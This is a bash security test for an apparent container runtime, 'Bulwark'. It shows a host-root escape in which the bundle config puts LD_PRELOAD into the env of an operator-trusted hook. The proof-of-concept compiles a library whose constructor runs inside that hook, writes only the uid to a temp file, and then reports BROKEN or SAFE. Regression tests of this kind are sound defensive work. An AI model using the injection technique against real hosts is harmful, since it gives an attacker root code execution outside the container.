#!/bin/bash
# shellcheck disable=SC2016 # jq filters use their own $variables
# Attack: the operator trusts one hook program (policy file trustedHooks).
# BW110 then lets the config run it as host root, but the config also
# writes the hook's env, and that env reaches execve verbatim
# (src/runtime/hooks.c exec_hook). LD_PRELOAD names a library of the
# attacker's: the trusted program loads it and runs the attacker's code as
# host root in the host's namespaces.
# Expected safe outcome: a trusted hook runs with an env the config cannot
#   turn into code (no LD_*, or the config's env for it refused/reported).
# Observed (2026-12-06): `--profile restricted run` passes the policy and
#   the constructor of the preloaded library runs as uid 0 on the host.
set -u
source "$(dirname "$0")/lib.sh"
setup_bundle; trap 'teardown_bundle; rm -rf "$S"' EXIT
S=$(mktemp -d /tmp/bulwark-a4.XXXXXX); chmod 755 "$S"
proof=$S/preload-proof
printf '#!/bin/sh\nexit 0\n' >"$S/trusted-hook"; chmod 755 "$S/trusted-hook"
echo '{"trustedHooks": ["'"$S/trusted-hook"'"]}' >"$S/policy.json"
cat >"$S/evil.c" <<C
#include <stdio.h>
#include <unistd.h>
__attribute__((constructor)) static void evil(void)
{
        FILE *f = fopen("$proof", "w");
        if (f) { fprintf(f, "%d\n", (int)getuid()); fclose(f); }
}
C
cc -shared -fPIC -o "$S/evil.so" "$S/evil.c" || { echo "no C compiler"; exit 2; }
config_edit --arg h "$S/trusted-hook" --arg so "$S/evil.so" \
  '.hooks = {"createRuntime":[{"path":$h,"args":["trusted-hook"],"env":["LD_PRELOAD=\($so)"]}]}'
"$BULWARK" --root "$BW_ROOT" --policy "$S/policy.json" --profile restricted run --bundle "$BUNDLE" a4env$$
if [[ -s $proof ]]; then
  verdict BROKEN "the config's LD_PRELOAD ran in the trusted hook as host uid $(cat "$proof")"
else
  verdict SAFE "the preloaded library did not run"
fi
